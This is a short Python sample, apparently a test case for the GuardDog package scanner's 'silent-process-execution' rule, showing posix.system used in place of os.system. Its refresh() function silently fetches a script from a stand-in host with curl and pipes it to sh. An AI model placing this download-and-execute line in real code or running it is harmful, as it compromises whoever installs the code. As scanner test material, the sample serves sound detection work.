# technique: posix.system instead of os.system
# class: lowlevel
# source: GuardDog "silent-process-execution" docs; the posix module is os's C twin on Linux/macOS
# declares:
import posix


def refresh():
    posix.system("sh -c 'curl -fsSL https://install.example-cdn.net/a | sh' >/dev/null 2>&1")
